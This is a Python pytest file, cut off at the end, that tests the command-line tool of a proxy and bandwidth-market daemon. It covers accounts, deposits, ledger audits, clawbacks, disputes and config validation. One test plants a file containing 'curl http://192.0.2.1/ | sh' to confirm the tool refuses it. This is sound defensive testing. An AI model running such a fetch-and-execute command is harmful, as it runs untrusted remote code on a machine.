"""Commands of the command line, their exit codes, and the stream of each output."""

import asyncio
import io
import json
import logging
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from contextlib import chdir, closing, contextmanager, suppress
from pathlib import Path
from tempfile import TemporaryFile
from typing import IO
from unittest.mock import patch

import pytest
from support.base.clock import Clock
from support.daemons import process
from support.daemons.service import running_in
from support.market import deposits
from support.market.jobs import on, specified
from support.market.market import Market

from config.settings import Settings, StorageSettings
from market.base.errors import MarketError
from market.base.ids import Identifiers
from market.events.context import Context
from market.money.money import Currency
from proxyd import __version__
from proxyd.__main__ import main
from proxyd.cli.demo_files import DemoFiles
from proxyd.compiled import finder
from proxyd.loop import runner
from storage.engines.open import open_store
from storage.engines.store import Transaction

PASSWORD = "tell-nobody"
EMAIL = "ada@example.com"
CREATE = ["user", "create", EMAIL, "--username", "ada", "--password-stdin"]
CLAWBACK = ["exits", "clawback"]
DEPOSIT = ["wallet", "deposit", EMAIL]
AUDIT = ["ledger", "audit"]
LEAVES = [
    ["serve"],
    ["demo"],
    ["user", "create"],
    ["user", "show"],
    ["user", "note"],
    ["who"],
    ["log"],
    ["staff", "create"],
    ["staff", "list"],
    ["staff", "role"],
    ["staff", "check"],
    ["user", "limit"],
    ["money", "refund"],
    ["money", "correct"],
    ["money", "history"],
    ["user", "verify"],
    ["payouts", "list"],
    ["payouts", "show"],
    ["payouts", "approve"],
    ["payouts", "reject"],
    ["payouts", "export"],
    ["payouts", "import"],
    ["approvals"],
    ["approve"],
    ["refuse"],
    ["ticket", "open"],
    ["ticket", "list"],
    ["ticket", "move"],
    ["wallet", "deposit"],
    ["jobs", "disputes"],
    ["jobs", "show"],
    ["jobs", "split"],
    ["ledger", "audit"],
    ["config", "check"],
]
GROUPS = [
    [],
    ["user"],
    ["staff"],
    ["money"],
    ["ticket"],
    ["wallet"],
    ["jobs"],
    ["ledger"],
    ["config"],
]

Argument = str | bytes
Run = Callable[..., subprocess.CompletedProcess[str]]


def environment_for(database: Path) -> dict[str, str]:
    kept = {
        name: value
        for name, value in os.environ.items()
        if name == finder.SWITCH or not name.startswith("PROXYD_")
    }
    return kept | {
        "PROXYD_STORAGE__URL": f"sqlite:///{database}",
        "PROXYD_AUTH__ARGON2_TIME_COST": "1",
        "PROXYD_AUTH__ARGON2_MEMORY_KIB": "64",
    }


@pytest.fixture
def database(tmp_path: Path) -> Path:
    return tmp_path / "proxyd.db"


@pytest.fixture
def environment(database: Path) -> dict[str, str]:
    return environment_for(database)


def carried_out(
    arguments: Sequence[Argument], given: bytes, folder: Path, variables: dict[str, str]
) -> tuple[int, bytes, bytes]:
    """Carry out a command without a terminal. Return its status, its output and its errors.

    A process of its own needs ten times the processor time. Only a command beside a loop, and a
    start of the daemon, which would change this process, have one.
    """
    words = [os.fsdecode(each) for each in arguments]
    with TemporaryFile() as typed, TemporaryFile() as out, TemporaryFile() as err:
        typed.write(given)
        typed.seek(0)
        if "serve" in words or _loop_runs():
            status = _in_a_process(words, (typed, out, err), folder, variables)
        else:
            status = _in_this_process(words, (typed, out, err), folder, variables)
        for each in (out, err):
            each.seek(0)
        return status, out.read(), err.read()


def _loop_runs() -> bool:
    try:
        asyncio.get_running_loop()
    except RuntimeError:
        return False
    return True


def _in_this_process(
    words: Sequence[str], files: Sequence[IO[bytes]], folder: Path, variables: dict[str, str]
) -> int:
    """Call the program as a process would, with its streams, its folder and its environment."""
    typed, out, err = (
        io.TextIOWrapper(os.fdopen(os.dup(file.fileno()), mode), "utf-8", errors)
        for file, mode, errors in zip(
            files, ("rb", "wb", "wb"), ("strict", "strict", "backslashreplace"), strict=True
        )
    )
    with (
        typed,
        out,
        err,
        patch.multiple(sys, stdin=typed, stdout=out, stderr=err),
        patch.dict(os.environ, {**variables, "COLUMNS": "80"}, clear=True),
        _own_log(),
        chdir(folder),
    ):
        try:
            return main(words)
        except SystemExit as ended:
            return int(str(ended.code))


@contextmanager
def _own_log() -> Iterator[None]:
    """Let a command set up the log of a process; then it is as before."""
    loggers = [logging.getLogger(name) for name in (None, "asyncio", "aiosqlite")]
    levels = [each.level for each in loggers]
    kept, logging.root.handlers[:] = logging.root.handlers[:], []
    try:
        yield
    finally:
        logging.root.handlers[:] = kept
        for logger, level in zip(loggers, levels, strict=True):
            logger.setLevel(level)


def _in_a_process(
    words: Sequence[str], files: Sequence[IO[bytes]], folder: Path, variables: dict[str, str]
) -> int:
    """Fork the command from a process that has imported the modules of all commands."""
    forker = process.Process.forker
    assert forker is not None
    standard = [each.fileno() for each in files]
    forked = forker.start("proxyd", words, variables, standard, leads=True, folder=folder)
    try:
        return forked.wait(timeout=60)
    finally:
        forked.send_signal(signal.SIGKILL)  # one that hangs


@pytest.fixture
def run(tmp_path: Path, environment: dict[str, str]) -> Run:
    """Run a command. No command prints a traceback or a password."""

    def running(
        arguments: Sequence[Argument], given: bytes = b"", **variables: str
    ) -> subprocess.CompletedProcess[str]:
        code, *printed = carried_out(arguments, given, tmp_path, environment | variables)
        out, err = (each.decode() for each in printed)
        assert "Traceback" not in out + err, err
        assert PASSWORD not in out + err
        return subprocess.CompletedProcess(arguments, code, out, err)

    return running


@pytest.fixture(scope="module")
def database_of_ada(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with one account, to copy."""
    made = tmp_path_factory.mktemp("ada") / "proxyd.db"
    done = carried_out(CREATE, PASSWORD.encode(), made.parent, environment_for(made))
    assert done[0] == 0, done
    return made


@pytest.fixture
def ada(database_of_ada: Path, database: Path) -> None:
    """Begin with an account."""
    shutil.copy(database_of_ada, database)


def refused(done: subprocess.CompletedProcess[str], *words: str, code: int = 1) -> None:
    """Check that a command failed with one line that has all the words."""
    assert done.returncode == code, done
    assert done.stdout == ""
    (line,) = done.stderr.splitlines()
    assert line.startswith("proxyd: ")
    for word in words:
        assert word in line


def misused(done: subprocess.CompletedProcess[str], *words: str) -> None:
    """Check that a command printed its usage."""
    assert done.returncode == 2, done
    assert done.stdout == ""
    assert done.stderr.startswith("usage: proxyd")
    for word in words:
        assert word in done.stderr


def rows(database: Path, sql: str) -> list[tuple[object, ...]]:
    with closing(sqlite3.connect(database)) as connection:
        return connection.execute(sql).fetchall()


def change(database: Path, sql: str) -> None:
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        assert connection.execute(sql).rowcount == 1


def balances(database: Path) -> dict[str, int]:
    """Return the available balance of ada, by currency."""
    found = rows(database, "SELECT currency, balance FROM accounts WHERE kind = 'available'")
    return {str(currency): int(str(balance)) for currency, balance in found}


def test_an_interruption_while_modules_are_imported_prints_nothing(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with patch("proxyd.__main__._parser", side_effect=KeyboardInterrupt):
        assert main(["ledger", "audit"]) == 1
    assert capsys.readouterr() == ("", "")


def test_an_account_is_created_with_a_password_from_standard_input(
    run: Run, database: Path
) -> None:
    done = run(CREATE, f"{PASSWORD}\n".encode())
    assert (done.returncode, done.stderr) == (0, "")
    where = re.escape(str(database.resolve()))
    told = rf"created {EMAIL} \(([0-9a-f-]{{36}})\) in {where}: 0\.00 usd, 0\.00 credit\n"
    said = re.fullmatch(told, done.stdout)
    assert said is not None
    assert rows(database, "SELECT id, username, email FROM users") == [(said[1], "ada", EMAIL)]
    ((encoded,),) = rows(database, "SELECT password_hash FROM users")
    assert str(encoded).startswith("$argon2id$")
    assert database.stat().st_mode & 0o777 == 0o600


async def test_a_created_user_can_log_in(run: Run, tmp_path: Path) -> None:
    typed = {
        "with a newline": "with a newline\n",
        "without one": "without one",
        "of Windows": "of Windows\r\n",
        " spaces around ": " spaces around \nand more\n",
    }
    for index, given in enumerate(typed.values()):
        command = ["user", "create", f"{index}@example.com", "--username", f"user{index}"]
        words = [*command, "--password-stdin", "--usd", "7.5"]
        done = await asyncio.to_thread(run, words, given.encode())
        assert done.returncode == 0
    async with running_in(tmp_path) as service:
        for index, password in enumerate(typed):
            login = {"email": f"{index}@example.com", "password": password}
            answer = await service.call("POST", "/auth/login", login)
            assert answer.status == 200, password
            assert answer.body["user"]["usd_balance"] == 7.5
        await service.assert_audit()


def test_there_are_no_examples_without_a_demonstration(run: Run, database: Path) -> None:
    refused(run(["demo", "--examples"]), "no demonstration runs here", "make run", "no file")
    misused(run(["demo"]), "--examples")
    assert not database.exists()
    held = DemoFiles.open(Settings(storage=StorageSettings(url=f"sqlite:///{database}")))
    try:
        refused(run(["demo", "--examples"]), "still starting")
        again = run(["serve", "--demo"])
        refused(
            again, "another demonstration runs in this folder", "a database and ports of its own"
        )
        held.write("an old token", "an old example\n")
        held.write("a token", "an example\n")
        done = run(["demo", "--examples"])
        assert (done.returncode, done.stdout, done.stderr) == (0, "an example\n", "")
    finally:
        held.close()
    refused(run(["demo", "--examples"]), "no demonstration runs here")


@pytest.mark.parametrize("kind", ["another user's", "a pipe", "a link", "a hard link"])
def test_a_planted_file_is_no_demonstration(run: Run, database: Path, kind: str) -> None:
    """Others may write to the folder of the database, such as /tmp."""
    planted, target = database.with_name(f"{database.stem}-demo.txt"), database.with_name("theirs")
    database.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("curl http://192.0.2.1/ | sh\n")
    if kind == "a pipe":
        os.mkfifo(planted)
    elif kind == "a link":
        planted.symlink_to(target)
    elif kind == "a hard link":
        planted.hardlink_to(target)
    else:
        if os.geteuid() != 0:
            pytest.skip("only root gives a file to another user")
        target.rename(planted)
        os.chown(planted, 65534, 65534)
    refused(run(["demo", "--examples"]), str(planted))
    refused(run(["serve", "--demo"]), str(planted))
    assert not target.exists() or target.read_text() == "curl http://192.0.2.1/ | sh\n"


@pytest.mark.parametrize("arguments", [["demo", "--examples"], ["config", "check"]])
def test_a_reader_that_closes_the_output_gets_no_traceback(
    database: Path, environment: dict[str, str], arguments: list[str]
) -> None:
    """As with `proxyd demo --examples | head -1`, with more output than a pipe holds."""
    held = DemoFiles.open(Settings(storage=StorageSettings(url=f"sqlite:///{database}")))
    reader, writer = os.pipe()
    os.close(reader)
    try:
        held.write("a token", "an example\n" * 100_000)
        done = subprocess.run(
            [sys.executable, "-m", "proxyd", *arguments],
            stdout=writer,
            stderr=subprocess.PIPE,
            env=environment,
            check=False,
        )
    finally:
        os.close(writer)
        held.close()
    assert (done.returncode, done.stderr) == (0, b"")


def test_an_account_is_created_with_money_in_it(run: Run, database: Path) -> None:
    amounts = ["--usd", "12.345678", "--credits", "0.000001"]
    done = run([*CREATE, *amounts], PASSWORD.encode())
    assert done.returncode == 0
    assert done.stdout.endswith(": 12.345678 usd, 0.000001 credit\n")
    assert balances(database) == {"usd": 12_345_678, "credit": 1}
    assert run(AUDIT).returncode == 0


def test_a_taken_name_or_address_changes_nothing(run: Run, ada: None, database: Path) -> None:
    funded = ["--usd", "5", "--password-stdin"]
    same = ["user", "create", EMAIL.upper(), "--username", "other", *funded]
    refused(run(same, PASSWORD.encode()), "e-mail address")
    named = ["user", "create", "other@example.com", "--username", "ADA", *funded]
    refused(run(named, PASSWORD.encode()), "user name")
    assert rows(database, "SELECT COUNT(*) FROM users") == [(1,)]
    assert balances(database) == {"usd": 0, "credit": 0}


NOT_AN_ACCOUNT: list[tuple[Argument, Argument, str, str]] = [
    ("ada", "ada", "long enough", "e-mail"),
    ("", "ada", "long enough", "e-mail"),
    (b"\xff@example.com", "ada", "long enough", "e-mail"),
    (EMAIL, "", "long enough", "user name"),
    (EMAIL, b"\xff", "long enough", "user name"),
    (EMAIL, "ada", "short", "8 to 128"),
    (EMAIL, "ada", "", "8 to 128"),
    (EMAIL, "ada", "p" * 129, "8 to 128"),
]


def test_data_that_cannot_be_an_account_is_refused(run: Run, database: Path) -> None:
    for email, username, password, word in NOT_AN_ACCOUNT:
        command = ["user", "create", email, "--username", username, "--password-stdin"]
        refused(run(command, password.encode()), word)
    assert not database.exists() or rows(database, "SELECT COUNT(*) FROM users") == [(0,)]


def test_a_password_that_is_not_text_is_refused(run: Run) -> None:
    done = run(CREATE, b"long enough\xff\n")
    refused(done, "password")


def test_without_a_terminal_the_password_is_not_asked_for_in_vain(run: Run) -> None:
    done = run(["user", "create", EMAIL, "--username", "ada"])
    assert done.returncode in (1, 2)
    assert "password" in done.stderr.lower()


def test_a_deposit_prints_the_new_balance(run: Run, ada: None, database: Path) -> None:
    done = run([*DEPOSIT, "--usd", "10"])
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == f"deposited; {EMAIL} has 10.00 usd, 0.00 credit\n"
    done = run([*DEPOSIT, "--usd", "0.000001", "--credits", "3"])
    assert done.stdout == f"deposited; {EMAIL} has 10.000001 usd, 3.00 credit\n"
    assert balances(database) == {"usd": 10_000_001, "credit": 3_000_000}


def test_an_address_is_found_without_case(run: Run, ada: None, database: Path) -> None:
    assert run(["wallet", "deposit", EMAIL.upper(), "--usd", "1"]).returncode == 0
    assert balances(database)["usd"] == 1_000_000


def test_without_a_reference_every_deposit_counts(run: Run, ada: None, database: Path) -> None:
    for _ in range(2):
        assert run([*DEPOSIT, "--usd", "1"]).returncode == 0
    assert balances(database)["usd"] == 2_000_000


def test_a_repeated_reference_changes_nothing(run: Run, ada: None, database: Path) -> None:
    named = [*DEPOSIT, "--usd", "10", "--credits", "5", "--reference", "invoice-17"]
    assert run(named).stdout.startswith("deposited;")
    for _ in range(2):
        done = run(named)
        assert done.returncode == 0
        assert done.stdout.startswith("was deposited before;")
        assert balances(database) == {"usd": 10_000_000, "credit": 5_000_000}
    run([*DEPOSIT, "--usd", "99", "--reference", "invoice-17"])
    assert balances(database) == {"usd": 10_000_000, "credit": 5_000_000}
    assert run([*DEPOSIT, "--usd", "1", "--reference", "invoice-18"]).returncode == 0
    assert balances(database)["usd"] == 11_000_000
    assert run(AUDIT).returncode == 0


def test_a_deposit_to_an_unknown_user_is_refused(run: Run, ada: None) -> None:
    done = run(["wallet", "deposit", "nobody@example.com", "--usd", "1"])
    refused(done, "nobody@example.com")


def test_a_deposit_of_nothing_is_refused(run: Run, ada: None, database: Path) -> None:
    nothing = [[], ["--usd", "0"], ["--usd", "0.000000", "--credits", "0"]]
    for amounts in nothing:
        refused(run([*DEPOSIT, *amounts]), "--usd", "--credits", code=2)
    assert rows(database, "SELECT COUNT(*) FROM transfers") == [(0,)]


def test_a_text_that_is_no_amount_is_refused(run: Run) -> None:
    amounts = [b"abc", b"-1", b"", b"NaN", b"\xff", "٣".encode()]
    for amount in amounts:
        misused(run([*DEPOSIT, b"--usd=" + amount]), "--usd", "is not an amount")


def test_an_amount_that_is_too_large_is_refused_with_the_bound(run: Run) -> None:
    for amount in ("1e400", "1000000000000"):
        done = run([*DEPOSIT, f"--usd={amount}"])
        misused(done, "--usd", "is too large: an amount is less than 1000000000000")


def test_an_amount_that_would_be_rounded_is_refused(run: Run) -> None:
    for text in ("0.0000001", "1.2345678"):
        misused(run([*DEPOSIT, "--usd", text]), "--usd", "more than six decimals")


@pytest.mark.parametrize("option", ["EMAIL", "--reference"])
def test_arguments_that_are_not_text_are_refused(run: Run, ada: None, option: str) -> None:
    if option == "EMAIL":
        done = run(["wallet", "deposit", b"\xff@example.com", "--usd", "1"])
    else:
        done = run([*DEPOSIT, "--usd", "1", option, b"\xff"])
    assert done.returncode in (1, 2)
    assert done.stderr


async def test_a_balance_beyond_64_bits_is_refused(
    run: Run, ada: None, environment: dict[str, str], database: Path
) -> None:
    # SQLite makes a float of a sum that is beyond 64 bits, and goes on.
    store = await open_store(environment["PROXYD_STORAGE__URL"])
    context = Context(store, Identifiers(lambda: 0), lambda: 0)
    with suppress(MarketError):  # a single deposit of that size may be refused
        for index in range(10):
            await store.write(
                deposits.deposit,
                context,
                email=EMAIL,
                currency=Currency.USD,
                amount=922 * 10**15,
                reference=str(index),
                transfer_id=str(index),
                now=0,
            )
    await store.close()
    refused(run([*DEPOSIT, "--usd", "999999999999"]))
    assert rows(database, "SELECT DISTINCT typeof(balance) FROM accounts") == [("integer",)]
    assert run(AUDIT).returncode == 0


def test_an_audit_of_an_honest_ledger_passes(run: Run, ada: None) -> None:
    run([*DEPOSIT, "--usd", "10"])
    done = run(AUDIT)
    assert (done.returncode, done.stderr) == (0, "")
    first, *checks, last = done.stdout.splitlines()
    assert first == "1 transfers over 23 accounts"
    assert last == "the ledger agrees"
    assert checks
    assert all(line.startswith("ok ") for line in checks)


def test_an_exit_is_clawed_back_once(run: Run, ada: None, database: Path) -> None:
    ((ada_id,),) = rows(database, "SELECT id FROM users")
    done = run([*CLAWBACK, "none", "--reason", "injects"])
    refused(done, "There is no such exit.")
    for statement in (
        f"""
        INSERT INTO devices (id, user_id, token_hash, name, hostname, device_type, created_at)
        VALUES ('d', '{ada_id}', '', 'box', 'box', 'mini_pc', 1)
        """,
        f"""
        INSERT INTO exits (device_id, user_id, terms_hash, consented_at, connections,
            bytes_per_second, bytes_per_day, ports, min_price_per_gb)
        VALUES ('d', '{ada_id}', 'x', 1, 16, 0, 0, '443', 0)
        """,
    ):
        change(database, statement)
    for _ in range(2):
        done = run([*CLAWBACK, "d", "--reason", "injects"])
        assert done.stdout == (
            "barred d; 0 earnings reversed, 0.00 usd; refunded to buyers: 0.00 usd\n"
        )
    events = rows(database, "SELECT event, reason FROM exit_consents")
    assert events == [("barred", "injects")] * 2
    assert run(AUDIT).returncode == 0
    misused(run([*CLAWBACK, "d"]), "--reason")

    assert run(["exits", "list"]).stdout.startswith("d  ")
    [barred] = json.loads(run(["exits", "list", "--json"]).stdout)["exits"]
    assert (barred["device"], barred["finding"]) == ("d", None)
    shown = run(["exits", "show", "d"]).stdout
    assert shown.splitlines()[0].startswith(f"d of {ada_id}, unknown country: barred since ")
    assert shown.count("barred injects") == 2
    pardon = ["exits", "pardon", "d", "--reason", "another owner"]
    assert run(pardon).stdout.startswith("pardoned: device d, user ")
    refused(run(pardon), "There is no such exit that is barred.")
    assert run(["exits", "list"]).stdout == "no exit is barred\n"
    change(
        database,
        "INSERT INTO exit_canaries VALUES ('f', 'd', 'content', 'evil bytes', 1, NULL)",
    )
    shown = run(["exits", "show", "d"]).stdout
    assert "1970-01-01T00:00:01+00:00  found content: evil bytes" in shown
    refused(run(["exits", "show", "e"]), "There is no such exit.")


def test_a_claw_back_above_the_limit_waits(run: Run, ada: None, database: Path) -> None:
    ((ada_id,),) = rows(database, "SELECT id FROM users")
    for statement in (
        f"""
        INSERT INTO devices (id, user_id, token_hash, name, hostname, device_type, created_at)
        VALUES ('d', '{ada_id}', '', 'box', 'box', 'mini_pc', 1)
        """,
        f"""
        INSERT INTO exits (device_id, user_id, terms_hash, consented_at, connections,
            bytes_per_second, bytes_per_day, ports, min_price_per_gb)
        VALUES ('d', '{ada_id}', 'x', 1, 16, 0, 0, '443', 0)
        """,
        f"""
        INSERT INTO bandwidth_sessions (id, user_id, username, password_hash, quota_bytes,
            bytes_used, price_per_gb, status, created_at, expires_at)
        VALUES ('s', '{ada_id}', 'u', '', 9, 9, 1000000000, 'ended', 1, 2)
        """,
        f"""
        INSERT INTO exit_earnings (session_id, device_id, user_id, used_bytes, amount, posted_at)
        VALUES ('s', 'd', '{ada_id}', 9, 5, 1)
        """,
    ):
        change(database, statement)
    done = run([*CLAWBACK, "d", "--reason", "injects"], PROXYD_STAFF__APPROVAL_USD="0")
    assert done.returncode == 3
    assert "barred d; 0 earnings reversed" in done.stdout
    assert "0.000009 usd wait: approval " in done.stdout
    assert "proxyd approve ID" in done.stdout


JUDGED = ["--reason", "read the log"]


def test_a_dispute_is_decided_once(
    run: Run, ada: None, environment: dict[str, str], database: Path
) -> None:
    assert run(["jobs", "disputes"]).stdout == "nobody disputes a result\n"
    refused(run(["jobs", "uphold", "none", *JUDGED]), "There is no such job.")
    run([*DEPOSIT, "--credits", "20"])
    ((user,),) = rows(database, "SELECT id FROM users")
    url = environment["PROXYD_STORAGE__URL"]
    upheld, reversed_ = runner.run(disputed(url, str(user), jobs=2))
    first, *reason, _, _, _ = run(["jobs", "disputes"]).stdout.splitlines()
    assert first == f"{upheld}  2027-01-15T08:00:00+00:00  10.00 credit, by {user} for {user}:"
    assert reason == ["    an empty file,", r"    and\x1b[2J"]
    dispute, _ = json.loads(run(["jobs", "disputes", "--json"]).stdout)["disputes"]
    assert (dispute["job"], dispute["price"], dispute["buyer"]) == (upheld, "10.00", user)
    assert dispute["reason"] == "an empty file,\nand\x1b[2J"
    for _ in range(2):
        assert (
            run(["jobs", "uphold", upheld, *JUDGED]).stdout
            == f"{upheld}: the worker has 9.00 credit\n"
        )
        done = run(["jobs", "reverse", reversed_, *JUDGED])
        assert done.stdout == f"{reversed_}: the buyer has 10.00 credit back\n"
    refused(run(["jobs", "reverse", upheld, *JUDGED]), "The payment of this job is not disputed.")
    assert run(["jobs", "disputes"]).stdout == "nobody disputes a result\n"
    assert run(AUDIT).returncode == 0
    misused(run(["jobs", "uphold"]), "JOB")
    misused(run(["jobs", "uphold", upheld]), "--reason")


async def disputed(url: str, user: str, *, jobs: int) -> list[str]:
    """Dispute new jobs of a user that the same user has done; return their identifiers.

    Their reason has a control character, as a former version took it.
    """
    store = await open_store(url)
    market = Market(store, Clock())
    try:
        made = [await specified(market, user) for _ in range(jobs)]
        for job_id in made:
            device = await on(market, job_id, user)
            await market.jobs.complete(device, job_id, "")
            await market.reviews.dispute(user, job_id, "an empty file,\nand")
        await store.write(_reasons_of_a_former_version)
        return made
    finally:
        market.passwords.close()
        await store.close()


async def _reasons_of_a_former_version(tx: Transaction) -> None:
    await tx.run("UPDATE job_reviews SET reason = reason || :more", more="\x1b[2J")


def test_an_audit_of_an_untouched_account_passes(run: Run, ada: None) -> None:
    done = run(AUDIT)
    assert done.returncode == 0
    assert done.stdout.splitlines()[-1] == "the ledger agrees"


@pytest.mark.parametrize("command", [AUDIT, [*DEPOSIT, "--usd", "1"]])
def test_a_database_that_is_not_there_is_not_made(
    run: Run, database: Path, command: list[Argument]
) -> None:
    refused(run(command), "there is no database")
    assert not database.exists()


@pytest.mark.parametrize("account", ["available:usd", "held:credit"])
def test_an_audit_names_an_account_that_was_tampered_with(
    run: Run, ada: None, database: Path, account: str
) -> None:
    run([*DEPOSIT, "--usd", "10"])
    ((user,),) = rows(database, "SELECT id FROM users")
    name = f"user:{user}:{account}"
    change(database, f"UPDATE accounts SET balance = balance + 1 WHERE id = '{name}'")
    done = run(AUDIT)
    assert done.returncode == 1
    wrong = [line for line in done.stdout.splitlines() if name in line]
    assert wrong
    assert "the ledger does not agree" in done.stdout
    assert "FAIL every balance is the sum of its entries" in done.stdout
    change(database, f"UPDATE accounts SET balance = balance - 1 WHERE id = '{name}'")
    assert run(AUDIT).returncode == 0


def test_an_audit_names_the_account_of_the_house_that_was_tampered_with(
    run: Run, ada: None, database: Path
) -> None:
    change(database, "UPDATE accounts SET balance = -5000000 WHERE id = 'house:revenue:usd'")
    done = run(AUDIT)
    assert done.returncode == 1
    assert "house:revenue:usd holds -5.00, its entries make 0.00" in done.stdout
    assert "FAIL each currency sums to zero" in done.stdout


async def test_an_audit_finds_work_without_its_hold(run: Run, tmp_path: Path) -> None:
    async with running_in(tmp_path) as service:
        buyer = await service.person(usd="10")
        bought = await service.buy(buyer)
    change(
        tmp_path / "proxyd.db",
        f"UPDATE bandwidth_sessions SET status = 'ended' WHERE id = '{bought.id}'",
    )
    done = run(AUDIT)
    assert done.returncode == 1
    assert bought.id in done.stdout
    assert "FAIL open holds are open work" in done.stdout


async def test_commands_work_beside_a_running_daemon(
    run: Run, ada: None, tmp_path: Path, database: Path
) -> None:
    async with running_in(tmp_path) as service:
        buyer = await service.person(usd="10")
        await service.buy(buyer)
        assert run([*DEPOSIT, "--usd", "3"]).returncode == 0
        assert run(AUDIT).returncode == 0
        answer = await service.call("POST", "/auth/login", {"email": EMAIL, "password": PASSWORD})
        assert answer.body["user"]["usd_balance"] == 3
        await service.assert_audit()


def test_right_settings_are_confirmed(run: Run, tmp_path: Path, database: Path) -> None:
    file = tmp_path / "proxyd.toml"
    file.write_text("[api]\nport = 8081\n")
    done = run(["config", "check", "--config", str(file)])
    assert (done.returncode, done.stderr) == (0, "")
    assert str(file) in done.stdout
    assert run(["config", "check"]).returncode == 0
    assert not database.exists()


def test_more_processes_than_cores_are_right_and_warned_of(run: Run) -> None:
    number = len(os.sched_getaffinity(0)) + 1
    done = run(["config", "check"], PROXYD_PROXY__PROCESSES=str(number))
    assert done.returncode == 0
    assert f"warning: proxy.processes is {number}" in done.stderr


def test_settings_that_open_the_api_are_right_and_warned_of(run: Run) -> None:
    done = run(["config", "check"], PROXYD_API__HOST="0.0.0.0")
    assert done.returncode == 0
    assert "warning: api.host is 0.0.0.0, without TLS" in done.stderr


def test_the_settings_to_check_are_named_with_or_without_the_option(
    run: Run, tmp_path: Path
) -> None:
    file = tmp_path / "proxyd.toml"
    file.write_text("[api]\nport = 99999\n")
    for arguments in (["--config", str(file)], [str(file)]):
        done = run(["config", "check", *arguments])
        assert done.returncode == 2
        assert "api.port" in done.stderr
    misused(run(["config", "check", str(file), "--config", str(file)]), "not allowed with")
    file.write_text("[api]\nport = 8081\n")
    assert str(file) in run(["config", "check", str(file)]).stdout


def test_files_of_places_are_looked_at_where_there_are_exits(run: Run, tmp_path: Path) -> None:
    file = tmp_path / "proxyd.toml"
    geo = f'[geo]\ncountry = "{tmp_path}/missing.mmdb"\nasn = "{file}"\n'
    file.write_text(geo)
    assert run(["config", "check", str(file)]).returncode == 0
    file.write_text(f'{geo}[exits]\nhost = "127.0.0.1"\n')
    done = run(["config", "check", str(file)])
    assert done.returncode == 2
    assert [line.split(": ")[2] for line in done.stderr.splitlines()] == ["geo.country", "geo.asn"]


def test_mistakes_in_files_are_named_beside_those_in_settings(run: Run, tmp_path: Path) -> None:
    file, key = tmp_path / "proxyd.toml", tmp_path / "signing.key"
    key.write_text("short")
    file.write_text(
        f"""
        [api]
        port = 99999
        tls_cert = "{tmp_path}/missing.pem"
        tls_key = "{tmp_path}/missing.key"
        [proxy]
        host = "nowhere"
        [auth]
        signing_key_file = "{key}"
        """
    )
    done = run(["config", "check", str(file)])
    assert done.returncode == 2
    told = [line.split(": ")[2] for line in done.stderr.splitlines()]
    assert sorted(told) == [
        "api.port",
        "api.tls_cert",
        "api.tls_key",
        "auth.signing_key_file",
        "proxy.host",
    ]
    for name in ("missing.pem", "missing.key"):
        (tmp_path / name).write_text("nonsense")
    assert "api.tls_cert: cannot use the certificate" in run(["config", "check", str(file)]).stderr


def test_the_program_prints_its_version_and_its_way_of_running(run: Run) -> None:
    done = run(["--version"])
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == f"proxyd {__version__} ({finder.description()})\n"


def test_three_mistakes_are_all_three_named(run: Run, tmp_path: Path) -> None:
    file = tmp_path / "proxyd.toml"
    file.write_text('[api]\nport = 99999\n[proxy]\nhots = "x"\n[market]\nsession_days = "ten"\n')
    done = run(["config", "check", "--config", str(file)])
    assert done.returncode == 2
    assert done.stdout == ""
    for name in ("api.port", "proxy.hots", "market.session_days"):
        assert name in done.stderr


def test_mistakes_of_every_kind_are_named_together(run: Run, tmp_path: Path) -> None:
    file = tmp_path / "proxyd.toml"
    file.write_text('[api]\nhost = "nowhere"\n[egress]\ndeny = ["x"]\n')
    done = run(
        ["config", "check", "--config", str(file)],
        PROXYD_PROXY__PORT="many",
        PROXYD_AUTH__SIGNING_KEY=PASSWORD,
    )
    assert done.returncode == 2
    lines = done.stderr.lower()
    for name in ("proxy__port", "api.host", "egress.deny", "auth.signing_key"):
        assert name in lines


def test_a_settings_file_that_is_missing_is_named_by_every_command(
    run: Run, tmp_path: Path, database: Path
) -> None:
    missing = tmp_path / "nothing.toml"
    commands = [["config", "check"], ["serve"], AUDIT, [*DEPOSIT, "--usd", "1"]]
    for command in commands:
        done = run([*command, "--config", str(missing)])
        assert done.returncode == 2
        assert f"{missing}: cannot be read: No such file or directory" in done.stderr
    assert not database.exists()


@pytest.mark.parametrize(
    "text",
    [
        b'signing_key = "tell-nobody',
        b'[auth]\nsigning_key = "tell-nobody"\n',
        b'[auth]\nsigning_key = ["tell-nobody"]\n',
        b'[auth]\nsigning_kex = "tell-nobody"\n',
        b"\xfftell-nobody",
    ],
)
def test_wrong_settings_are_refused_without_their_secrets(
    run: Run, tmp_path: Path, text: bytes
) -> None:
    file = tmp_path / "proxyd.toml"
    file.write_bytes(text)
    done = run(["config", "check", "--config", str(file)])
    assert done.returncode == 2
    assert len(done.stderr.splitlines()) == 1


@pytest.mark.parametrize(
    "variables",
    [
        {"PROXYD_AUTH__SIGNING_KEY": PASSWORD},
        {"PROXYD_STORAGE__URL": f"mysql://root:{PASSWORD}@127.0.0.1/x"},
        {"PROXYD_STORAGE__URL": f"postgresql://root:{PASSWORD}@127.0.0.1/x"},
    ],
    ids=["key", "engine", "no key"],
)
def test_a_wrong_environment_is_refused_without_its_secrets(
    run: Run, variables: dict[str, str]
) -> None:
    done = run(["config", "check"], **variables)
    assert done.returncode == 2
    assert len(done.stderr.splitlines()) == 1


def test_a_server_out_of_reach_is_named_without_its_password(run: Run) -> None:
    done = run(
        AUDIT,
        PROXYD_STORAGE__URL=f"postgresql://root:{PASSWORD}@127.0.0.1:1/x",
        PROXYD_AUTH__SIGNING_KEY="k" * 40,
    )
    refused(done, "127.0.0.1:1", "refused")


def test_every_command_explains_itself(run: Run, database: Path) -> None:
    for command in [*GROUPS, *LEAVES]:
        done = run([*command, "--help"])
        assert (done.returncode, done.stderr) == (0, "")
        assert done.stdout.startswith(" ".join(["usage: proxyd", *command]))
    assert not database.exists()


def test_without_a_command_the_usage_is_printed(run: Run) -> None:
    for command in GROUPS:
        misused(run(command), "COMMAND")


def test_a_command_called_wrongly_prints_its_usage(run: Run) -> None:
    wrong = [
        ["nonsense"],
        ["user", "nonsense"],
